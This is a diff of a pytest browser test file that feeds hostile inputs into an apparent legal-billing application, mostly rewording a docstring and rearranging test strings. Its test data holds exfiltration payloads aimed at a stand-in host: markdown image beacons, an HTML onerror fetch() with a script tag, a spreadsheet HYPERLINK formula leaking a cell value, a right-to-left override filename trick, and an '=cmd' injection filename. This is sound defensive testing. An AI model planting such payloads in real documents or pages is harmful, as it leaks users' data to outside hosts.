@@ -1,4 +1,4 @@
-"""Files dropped by a person, hostile ones among them, to the figure, and from the figure back to what the firm wrote."""
+"""From files dropped by a person, with hostile texts, to a figure, and from the figure back to what the firm wrote."""
 
 from pathlib import Path
 
@@ -13,7 +13,7 @@ from tests.hostile.builder import fee, invoice, ledes
 pytestmark = pytest.mark.browser
 BEACON = "![x](http://phone-home.invalid/{}.png)"
 NARRATIVES = (
-    BEACON.format("narrative") + " [ici](http://phone-home.invalid/) http://phone-home.invalid/bare www.phone-home.invalid",
+    BEACON.format("text") + " [ici](http://phone-home.invalid/) http://phone-home.invalid/bare www.phone-home.invalid",
     "<img src=http://phone-home.invalid/html.png onerror=\"fetch('http://phone-home.invalid/js')\"><script>x()</script>",
     '=HYPERLINK("http://phone-home.invalid/?q="&A1,"facture")',
     "Analyse de \u202egnp.erutcaf\u202c, $\\LaTeX$ :material/bolt: :red[rouge] `code` **gras**",
@@ -27,8 +27,8 @@ BILLS = invoice(
     name=BEACON.format("keeper"),
 )
 TABLES = {
-    "matters.csv": f"matter_id;name;matter_type;entity\nM1;Grève {BEACON.format('matter')};Social {BEACON.format('type')};"
-    f"{BEACON.format('entity')}\n",
+    "matters.csv": "matter_id;name;matter_type;entity\n"
+    f"M1;Grève {BEACON.format('matter')};Social {BEACON.format('type')};{BEACON.format('entity')}\n",
     "sous-dossier/firms.csv": f"firm_id;name;kind\nF1;<b>Alpha</b> {BEACON.format('firm')};law_firm\n",
 }
 
@@ -36,7 +36,7 @@ TABLES = {
 @pytest.fixture
 def bills(tmp_path: Path) -> Path:
     """An invoice whose texts try to be something else, in a file whose name does too."""
-    file = tmp_path / "![x](y) <b>=cmd.txt"
+    file = tmp_path / "![x](y) $x$ =cmd.txt"
     file.write_text(ledes(BILLS), encoding="utf-8")
     return file
 
